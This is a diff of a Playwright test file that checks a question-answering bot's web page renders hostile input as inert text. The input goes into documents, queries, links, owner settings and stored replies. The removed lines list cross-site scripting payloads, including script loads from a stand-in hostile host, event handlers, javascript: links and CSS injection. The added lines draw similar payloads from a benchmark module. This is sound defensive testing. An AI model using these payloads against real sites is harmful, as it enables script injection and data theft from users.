@@ -1,67 +1,60 @@
-"""A hostile document and hostile queries on the real page: shown as text, never run.
+"""Hostile documents and queries on the real page: shown as text, never run.
 
-Each payload is a question, its answer and the query, in a text document and in a Markdown one.
+Some texts are typed, and are a question and its answer in a text document and in a Markdown one.
+All are shown as kept replies of the server, as titles and sections, by the owner's settings and in
+the source itself.
 """
 
-from urllib.parse import urlencode
+from urllib.parse import quote, urlencode
 
 import pytest
 from fakes import FakeEncoder
 from playwright.sync_api import Page, expect
-from serving import Server
+from serving import Server, bot_over
 
 from benchmarks.browsing import Watch, box, browse_button
-from qa_bot import QABot
+from benchmarks.hostile_payloads import FILE, HOST, RUN, payloads
+from qa_bot import QABot, QAPair, Source
+from qa_bot.languages import language
+from qa_bot.languages.plain_names import plain_name
 from qa_bot.parsing import read_sources
+from qa_bot.records import Contact
+from qa_bot.settings import Settings
+from qa_bot.web.page import replies
+from qa_bot.web.service import Service
 
 pytestmark = pytest.mark.browser
 
-RUN = "window.__hacked=1"
-ELSEWHERE = "//hostile.example/"
-PAYLOADS = {
-    "script": f"<script>{RUN}</script><script src=http:{ELSEWHERE}x.js></script>",
-    "handler": f'<img src=x onerror="{RUN}"><body onload={RUN}><p onmouseover="{RUN}">over</p>',
-    "svg": f"<svg onload={RUN}><animate onbegin={RUN} attributeName=x dur=1s></svg>",
-    "math": f"<math><mtext><style><img src=x onerror={RUN}></style></mtext></math>",
-    "frame": f'<iframe srcdoc="<script>parent.{RUN[7:]}</script>"></iframe><object data=x>',
-    "link": f"[press](javascript:{RUN}) <a href=\"javascript:{RUN}\">here</a> <javascript:{RUN}>",
-    "mixed": f"[press](JaVa&#x53;cript&colon;{RUN}) [two](<\tjavascript:{RUN}>)",
-    "data": f"[press](data:text/html,<script>{RUN}</script>) <a href='data:text/html,x'>d</a>",
-    "image": f"![seen](http:{ELSEWHERE}a.png) <img src={ELSEWHERE}b.png srcset={ELSEWHERE}c.png>",
-    "style": f"<style>@import url({ELSEWHERE}d)</style><p style='background:url({ELSEWHERE}e)'>",
-    "css": f'<div style="width:expression({RUN});behavior:url({ELSEWHERE}f)">wide</div>',
-    "math-mode": f"$$\\href{{javascript:{RUN}}}{{x}}$$ and \\(\\includegraphics{{{ELSEWHERE}g}}\\)",
-    "leave": f"<meta http-equiv=refresh content='0;url=http:{ELSEWHERE}'><base href={ELSEWHERE}>",
-    "form": f"<form action={ELSEWHERE}><button formaction=javascript:{RUN}>send</button></form>",
-    "close": f"</textarea></div></article></main></script><h1>Ours?</h1><!-- <svg onload={RUN}>",
-    "clobber": "<a id=qa-page name=body></a><input id=qa-box name=q><form id=qa-form></form>",
-    "template": f"{{{{constructor.constructor('{RUN}')()}}}} ${{{RUN}}} <%= {RUN} %> $description",
-    "entity": f"&lt;img src=x onerror={RUN}&gt; &#60;script&#62;{RUN}&#60;/script&#62;",
-    "bidi": "\N{RIGHT-TO-LEFT OVERRIDE}txet\N{RIGHT-TO-LEFT ISOLATE} \N{LEFT-TO-RIGHT OVERRIDE}end",
-    "control": "bell\x07 escape\x1b[31m one\x01 back\x08 delete\x7f joiner\N{ZERO WIDTH JOINER}.",
-    "long": "long" * 120,
-}  # fmt: skip
-# A text file that was printed for a terminal is read as it is seen there.
-SEEN = {"control": "bell\x07 escape one\x01 backdelete\x7f joiner\N{ZERO WIDTH JOINER}."}
+TEXTS = [
+    one.text.replace(HOST, "hostile.example").replace(FILE, "/etc/hostname") for one in payloads()
+]
+# Typed one after the other: what a line of a document and the box can hold, of each kind some.
+TYPED = [text for text in TEXTS if text.isprintable()][::22]
+IMAGE = f"<img src=x onerror={RUN}>"
 SUFFIXES = (".txt", ".md")
 # What a browser could run, load or be led away by.
 ACTIVE = (
     "script, iframe, object, embed, link, meta, base, style, img, form, svg, math, [onerror], "
     "[onload], [style*='url'], a[href^='javascript' i], a[href^='data' i], a[href^='vbscript' i]"
 )
+OPENED = "all => all.forEach(one => one.open = true)"
+# As many as the page keeps of a conversation (assets/kept.js).
+KEPT = 100
+# Pairs of one bot: an answer from few costs little.
+ASKED_TOGETHER = 20
 NAMED = "found => found.map(element => `${element.localName}#${element.id}`)"
 OWN = ["form#qa-form", "script#qa-told"]  # the box, and the page's words as JSON
 
 
-def question(name: str, suffix: str) -> str:
-    return f"What does {name} do in a {suffix[1:]} document with {PAYLOADS[name]}?"
+def question(place: int, suffix: str) -> str:
+    return f"What does text {place} do in a {suffix[1:]} document with {TYPED[place - 1]}?"
 
 
 def document(suffix: str) -> str:
     mark = "## " if suffix == ".md" else ""
     return "\n".join(
-        f"{mark}{number}. {question(name, suffix)}\n\nIt shows {payload} here.\n"
-        for number, (name, payload) in enumerate(PAYLOADS.items(), 1)
+        f"{mark}{number}. {question(number, suffix)}\n\nIt shows {text} here.\n"
+        for number, text in enumerate(TYPED, 1)
     )
 
 
@@ -69,7 +62,7 @@ def document(suffix: str) -> str:
 def url(tmp_path_factory):
     sources = tmp_path_factory.mktemp("hostile")
     for suffix in SUFFIXES:
-        name = f"<img src=x onerror={RUN}>{suffix}"
+        name = f"{IMAGE}{suffix}"
         (sources / name).write_text(document(suffix), "utf-8")
     read, problems = read_sources(sources)
     assert problems == [] and len(read) == len(SUFFIXES)
@@ -102,6 +95,11 @@ def page(watched, url):
     expect(page.get_by_role("heading", level=1)).to_have_count(1)
 
 
+def assert_links_lead_to_sites(page: Page) -> None:
+    links = page.locator("#qa-turns a").evaluate_all("all => all.map(a => a.getAttribute('href'))")
+    assert all(link.startswith(("http://", "https://", "mailto:", "tel:")) for link in links)
+
+
 def assert_inert(page: Page) -> None:
     """Nothing of the page's own part is active, and nothing makes it wider than the screen."""
     assert page.locator("#qa-page").locator(ACTIVE).evaluate_all(NAMED) == OWN
@@ -110,14 +108,14 @@ def assert_inert(page: Page) -> None:
 
 @pytest.fixture(scope="module")
 def asked(watched):
-    """All payloads asked in one conversation, as typed, with every detail of the replies open."""
+    """Some texts asked in one conversation, as typed, with every detail of the replies open."""
     page, _ = watched
     for suffix in SUFFIXES:
-        for name in PAYLOADS:
-            box(page).fill(question(name, suffix))
+        for place in range(1, len(TYPED) + 1):
+            box(page).fill(question(place, suffix))
             box(page).press("Enter")
-    expect(page.locator("[data-outcome]")).to_have_count(len(SUFFIXES) * len(PAYLOADS))
-    page.locator("#qa-turns details").evaluate_all("all => all.forEach(one => one.open = true)")
+    expect(page.locator("[data-outcome]")).to_have_count(len(SUFFIXES) * len(TYPED))
+    page.locator("#qa-turns details").evaluate_all(OPENED)
 
 
 @pytest.mark.usefixtures("asked")
@@ -125,11 +123,10 @@ def test_a_payload_is_text_as_query_question_and_answer(page):
     outcomes = page.locator("[data-outcome]").evaluate_all("all => all.map(r => r.dataset.outcome)")
     assert set(outcomes) == {"answered"}
     shown = page.locator(".qa-answer").all_text_contents()
-    plain = [f"It shows {payload} here." for payload in (PAYLOADS | SEEN).values()]
+    plain = [f"It shows {text} here." for text in TYPED]
     assert shown[: len(plain)] == plain and len(shown) == len(SUFFIXES) * len(plain)
     assert all(text.startswith("It shows") for text in shown)
-    links = page.locator("#qa-turns a").evaluate_all("all => all.map(a => a.getAttribute('href'))")
-    assert all(link.startswith(("http://", "https://")) for link in links)
+    assert_links_lead_to_sites(page)
     assert_inert(page)
 
 
@@ -144,22 +141,102 @@ def test_the_list_of_all_questions_is_text(page):
 
 def test_suggestions_are_text(page):
     box(page).fill("")
-    box(page).press_sequentially("what does handler do in a txt document with <img")
-    expect(page.get_by_role("option").first).to_contain_text("<img")
+    box(page).press_sequentially("what does text 1 do in a txt document with <script")
+    expect(page.get_by_role("option").first).to_contain_text("<script>")
     assert_inert(page)
 
 
-@pytest.mark.parametrize("name", ["handler", "close", "template"])
-def test_a_link_to_the_page_with_a_hostile_query_is_text(page, url, name):
+@pytest.mark.parametrize("text", TYPED[:3])
+def test_a_link_to_the_page_with_a_hostile_query_is_text(page, url, text):
     shown = page.locator("[data-outcome]").count()
-    page.goto(f"{url}/?{urlencode({'q': PAYLOADS[name]})}")
+    page.goto(f"{url}/?{urlencode({'q': text})}")
     expect(page.locator("[data-outcome]")).to_have_count(shown + 1)
-    expect(page.locator("#qa-turns")).to_contain_text(PAYLOADS[name])
+    expect(page.locator("#qa-turns")).to_contain_text(text)
     assert_inert(page)
 
 
 def test_a_link_with_a_document_that_is_none_is_text(page, url):
-    query = urlencode({"doc": PAYLOADS["handler"], "n": PAYLOADS["script"]})
+    query = urlencode({"doc": IMAGE, "n": TYPED[0]})
     page.goto(f"{url}/?{query}")
     expect(page.locator("[data-outcome]").last).to_contain_text("<img")
     assert_inert(page)
+
+
+def pair(place: int, text: str) -> QAPair:
+    """A pair every text of which is hostile."""
+    name = plain_name(text)
+    return QAPair(
+        str(place), f"What does text {place} do with {text}?", f"It shows {text} here.\n\n{text}",
+        source=Source(f"{place} {name}.txt", place, place, section=name, title=name),
+        alternates=(text,), label=f"{place} {name}"[:30], url=text,
+    )  # fmt: skip
+
+
+def turns() -> list[dict]:
+    """A turn of the page's conversation for each text, with the server's reply."""
+    pairs = [pair(place, text) for place, text in enumerate(TEXTS, 1)]
+    found = []
+    for first in range(0, len(pairs), ASKED_TOGETHER):
+        some = pairs[first : first + ASKED_TOGETHER]
+        service = Service(QABot.from_pairs(some, encoder=FakeEncoder()))
+        for one in some:
+            asked = {"query": one.question}
+            reply = replies.reply(service, replies.PageQuestion.of(asked), language())
+            assert reply["outcome"] == "answered"
+            found.append({"asked": asked, "shown": one.question, "reply": reply, "language": "en"})
+    return found
+
+
+@pytest.fixture(scope="module")
+def owned_url():
+    """A server whose owner says hostile texts."""
+    said = " ".join(TEXTS)
+    owner = Settings(title=said, greeting=said, disclaimer=said, contact=Contact(text=said))
+    bot = QABot.from_pairs([pair(1, TEXTS[0])], encoder=FakeEncoder())
+    with Server(bot, settings=owner).running() as server:
+        yield server.url
+
+
+KEEP = """turns => {
+    localStorage.clear();
+    turns.forEach((turn, place) => localStorage.setItem(
+        `qa-bot conversation: ${String(Date.now()).padStart(15, "0")} ${place}`,
+        JSON.stringify(turn)));
+}"""
+
+
+def test_every_text_is_text_in_a_reply_and_in_what_the_owner_says(browser, owned_url):
+    url, every = owned_url, turns()
+    page = browser.new_page(viewport={"width": 360, "height": 640})
+    page.set_default_timeout(60_000)
+    watch, shown = Watch(page, url), 0
+    page.goto(url)
+    for first in range(0, len(every), KEPT):
+        some = every[first : first + KEPT]
+        page.evaluate(KEEP, some)
+        page.reload()
+        expect(page.locator("[data-outcome]")).to_have_count(len(some))
+        page.locator("#qa-turns details").evaluate_all(OPENED)
+        assert_links_lead_to_sites(page)
+        assert page.locator("#qa-page").locator(ACTIVE).evaluate_all(NAMED) == OWN
+        shown += page.locator(".qa-answer").count()
+    page.goto(f"{url}/how")
+    assert page.locator("body").locator(ACTIVE).evaluate_all(NAMED) == []
+    page.wait_for_timeout(200)
+    assert page.evaluate("window.__hacked") is None and shown == len(TEXTS) >= 300
+    assert (watch.outside, watch.dialogs, watch.errors) == ([], [], [])
+    page.close()
+
+
+def test_every_text_is_text_in_the_source(browser, documents):
+    name = "all.txt"
+    folder = documents({name: "1. Are you open?\n" + "\n".join(TEXTS)})
+    settings = Settings(open_sources=True)
+    with Server(bot_over(folder), settings=settings).running() as server:
+        page = browser.new_page()
+        watch = Watch(page, server.url)
+        page.goto(f"{server.url}/source/{quote(name)}")
+        expect(page.locator("pre")).to_contain_text(TYPED[0])
+        assert page.locator("main").locator(ACTIVE).evaluate_all(NAMED) == []
+        assert (watch.outside, watch.dialogs, watch.errors) == ([], [], [])
+        page.close()
